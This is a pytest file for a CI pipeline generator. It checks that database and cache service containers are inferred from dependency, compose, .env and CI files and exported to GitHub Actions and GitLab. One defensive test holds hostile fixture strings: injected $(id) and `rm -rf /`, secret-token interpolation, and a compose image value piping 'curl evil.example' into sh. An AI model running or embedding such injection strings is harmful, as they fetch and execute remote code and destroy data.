"""Service containers inferred from dependencies, compose files and .env examples, added to the
stages that run tests and carried into the GitHub Actions and GitLab exports."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import yaml

from core.agent.analysis import analyze_repository
from core.agent.proposal import propose_pipeline
from core.agent.repo_files import RepoFiles
from core.agent.services import service_plan
from forgeline.pipeline_export import to_github_actions, to_gitlab_ci
from forgeline.pipeline_validation import validate_proposal


def _write(root: Path, files: dict[str, str]) -> Path:
    for rel, content in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(content)
    return root


def _plan(root: Path, files: dict[str, str], base: str = ".") -> Any:
    return service_plan(RepoFiles(_write(root, files)), base)


def test_services_from_dependencies_of_each_ecosystem(tmp_path: Path) -> None:
    cases: list[tuple[dict[str, str], list[str]]] = [
        ({"requirements.txt": "django\npsycopg[binary]>=3\nredis\n"}, ["postgres:16", "redis:7"]),
        ({"package.json": json.dumps({"dependencies": {"pg": "8", "ioredis": "5"}})},
         ["postgres:16", "redis:7"]),
        ({"Gemfile": "source 'https://rubygems.org'\ngem 'rails'\ngem 'mysql2'\n"}, ["mysql:8.0"]),
        ({"go.mod": "module x\n\ngo 1.22\n\nrequire (\n\tgithub.com/jackc/pgx/v5 v5.5.0\n)\n"},
         ["postgres:16"]),
        ({"pyproject.toml": '[tool.poetry.dependencies]\npython = "^3.11"\npymongo = "*"\n'},
         ["mongo:7"]),
        # A test double that brings its own server: no container.
        ({"package.json": json.dumps({"dependencies": {"mongoose": "8"},
          "devDependencies": {"mongodb-memory-server": "9"}})}, []),
        ({"package.json": json.dumps({"dependencies": {"react": "18"}})}, []),
    ]  # fmt: skip
    for index, (files, images) in enumerate(cases):
        plan = _plan(tmp_path / str(index), files)
        assert plan.images == images, (files, plan)
    plan = _plan(tmp_path / "pg", {"requirements.txt": "asyncpg\n"})
    assert plan.env == {
        "POSTGRES_USER": "postgres",
        "POSTGRES_DB": "test",
        "POSTGRES_HOST_AUTH_METHOD": "trust",
        "DATABASE_URL": "postgresql://postgres@postgres:5432/test",
    }


def test_the_env_example_url_is_pointed_at_the_service(tmp_path: Path) -> None:
    plan = _plan(
        tmp_path,
        {
            "package.json": json.dumps({"dependencies": {"express": "4"}}),
            ".env.example": "# local\nDATABASE_URL=postgres://shop:s3cret@localhost:5433/shop_dev"
            "?sslmode=disable\nCACHE_URL='redis://127.0.0.1:6379/2'\nPORT=3000\n",
        },
    )
    assert plan.images == ["postgres:16", "redis:7"]
    assert plan.env["DATABASE_URL"] == (
        "postgres://shop:s3cret@postgres:5432/shop_dev?sslmode=disable"
    )
    assert plan.env["CACHE_URL"] == "redis://redis:6379/2"
    assert plan.env["POSTGRES_USER"] == "shop" and plan.env["POSTGRES_PASSWORD"] == "s3cret"
    assert plan.env["POSTGRES_DB"] == "shop_dev"
    assert "PORT" not in plan.env


def test_laravel_db_variables_and_host(tmp_path: Path) -> None:
    plan = _plan(
        tmp_path,
        {
            "composer.json": json.dumps({"require": {"laravel/framework": "^11"}}),
            ".env.example": "DB_CONNECTION=mysql\nDB_HOST=127.0.0.1\nDB_PORT=3306\n"
            "DB_DATABASE=laravel\nDB_USERNAME=root\nDB_PASSWORD=\nREDIS_HOST=127.0.0.1\n",
        },
    )
    assert plan.images == ["mysql:8.0"]
    assert plan.env["DB_HOST"] == "mysql"
    assert plan.env["MYSQL_DATABASE"] == "laravel"
    assert plan.env["MYSQL_ALLOW_EMPTY_PASSWORD"] == "yes"
    assert "REDIS_HOST" not in plan.env  # no Redis client in the dependencies


def test_compose_services_keep_their_image_and_credentials(tmp_path: Path) -> None:
    compose = {
        "services": {
            "db": {
                "image": "postgres:15-alpine",
                "environment": ["POSTGRES_USER=app", "POSTGRES_PASSWORD=app", "POSTGRES_DB=app"],
            },
            "cache": {"image": "redis:7.2"},
            "web": {"build": "."},
            "other": {"image": "someone/unknown:1"},
        }
    }
    plan = _plan(tmp_path, {"docker-compose.yml": yaml.safe_dump(compose), "go.mod": "module x\n"})
    assert plan.images == ["postgres:15-alpine", "redis:7.2"]
    assert plan.env["DATABASE_URL"] == "postgresql://app:app@postgres:5432/app"
    assert plan.env["REDIS_URL"] == "redis://redis:6379/0"


def test_hostile_examples_never_reach_the_variables(tmp_path: Path) -> None:
    hostile = (
        "DATABASE_URL=postgres://${{ secrets.TOKEN }}:$(id)@localhost/`rm -rf /`\n"
        "MONGO_URL=mongodb://[::1\n"
        "REDIS_URL=redis://localhost:6379/0?x=${{github.token}}\n" + "JUNK=1\n" * 10_000
    )
    compose = "services:\n  db:\n    image: 'postgres:16; curl evil.example | sh'\n"
    plan = _plan(tmp_path, {".env.example": hostile, "docker-compose.yml": compose})
    assert plan.images == ["postgres:16", "redis:7", "mongo:7"]
    for value in plan.env.values():
        assert "$" not in value and "`" not in value and "{" not in value and ";" not in value
    assert plan.env["DATABASE_URL"] == "postgres://postgres@postgres:5432/test"


def test_test_stages_get_services_and_exports_carry_them(tmp_path: Path) -> None:
    root = _write(
        tmp_path,
        {
            "requirements.txt": "django\npsycopg2-binary\npytest-django\ncelery[redis]\nredis\n",
            "manage.py": "",
            ".env.example": "DATABASE_URL=postgresql://django:django@localhost:5432/app\n",
        },
    )
    analysis = analyze_repository(root)
    proposal = propose_pipeline(analysis)
    test = next(s for s in proposal.stages if s.stage_type == "test")
    assert test.services == ["postgres:16", "redis:7"]
    assert test.env["DATABASE_URL"] == "postgresql://django:django@postgres:5432/app"
    assert test.env["REDIS_URL"] == "redis://redis:6379/0"
    for stage in proposal.stages:
        if stage.stage_type != "test":
            assert stage.services == [] or stage.services == ["docker:27-dind"], stage.name
    jobs = to_github_actions(proposal)["jobs"]
    services = jobs["test"]["services"]
    assert set(services) == {"postgres", "redis"}
    assert services["postgres"]["image"] == "postgres:16"
    assert services["postgres"]["env"] == {
        "POSTGRES_USER": "django",
        "POSTGRES_PASSWORD": "django",
        "POSTGRES_DB": "app",
    }
    assert "pg_isready" in services["postgres"]["options"]
    gitlab = to_gitlab_ci(proposal)["test"]
    assert gitlab["services"] == ["postgres:16", "redis:7"]
    assert gitlab["variables"]["POSTGRES_PASSWORD"] == "django"
    report = validate_proposal(proposal)
    assert report.valid, report.errors


def test_the_repository_ci_services_and_job_variables_are_reused(tmp_path: Path) -> None:
    workflow = {
        "jobs": {
            "test": {
                "runs-on": "ubuntu-latest",
                "services": {
                    "db": {
                        "image": "postgres:14",
                        "env": {
                            "POSTGRES_PASSWORD": "ci",
                            "POSTGRES_USER": "ci",
                            "POSTGRES_DB": None,
                        },
                    },
                    "matrix": {"image": "${{ matrix.db }}"},
                },
                "env": {
                    "TEST_DATABASE_URL": "postgresql://ci:ci@localhost:5432/ci_test",
                    "TOKEN": "${{ secrets.TOKEN }}",
                },
            }
        }
    }
    plan = _plan(
        tmp_path / "gha",
        {
            ".github/workflows/ci.yml": yaml.safe_dump(workflow),
            "package.json": json.dumps({"dependencies": {"express": "4"}}),
        },
    )
    assert plan.images == ["postgres:14"]
    assert plan.env["TEST_DATABASE_URL"] == "postgresql://ci:ci@postgres:5432/ci_test"
    assert plan.env["POSTGRES_PASSWORD"] == "ci"
    assert "TOKEN" not in plan.env
    gitlab = {
        "variables": {"MYSQL_ROOT_PASSWORD": "root", "MYSQL_DATABASE": "app"},
        "test": {"services": [{"name": "mysql:5.7"}, "redis:6"], "script": ["make test"]},
    }
    plan = _plan(
        tmp_path / "gl", {".gitlab-ci.yml": yaml.safe_dump(gitlab), "go.mod": "module x\n"}
    )
    assert plan.images == ["mysql:5.7", "redis:6"]
    assert plan.env["MYSQL_ROOT_PASSWORD"] == "root" and plan.env["MYSQL_DATABASE"] == "app"
    assert plan.env["DATABASE_URL"] == "mysql://root:root@mysql:3306/app"


def test_malformed_ci_compose_and_env_files_never_break_the_generator(tmp_path: Path) -> None:
    shapes: list[object] = [None, 1, "x", [], {}, [1, "a", {}], {"a": None}, {"image": 5}]
    shapes += [{"image": "postgres:16", "env": [1, 2]}, {"image": "redis", "environment": "A=b"}]
    for index, shape in enumerate(shapes):
        root = tmp_path / str(index)
        workflow = {"jobs": {"t": {"services": shape, "env": shape, "strategy": {"matrix": shape}}}}
        files = {
            ".github/workflows/ci.yml": yaml.safe_dump(workflow),
            ".gitlab-ci.yml": yaml.safe_dump({"services": shape, "variables": shape, "j": shape}),
            "docker-compose.yml": yaml.safe_dump({"services": shape}),
            "requirements.txt": "-r\n-e\n--hash\na @\n[x]\npytest\n",
            ".env.example": "DATABASE_URL=postgres://\nX=mongodb://:@:/\nREDIS_URL=redis://:p@h:9999999/x\n",
        }
        proposal = propose_pipeline(analyze_repository(_write(root, files)))
        assert validate_proposal(proposal).valid, shape
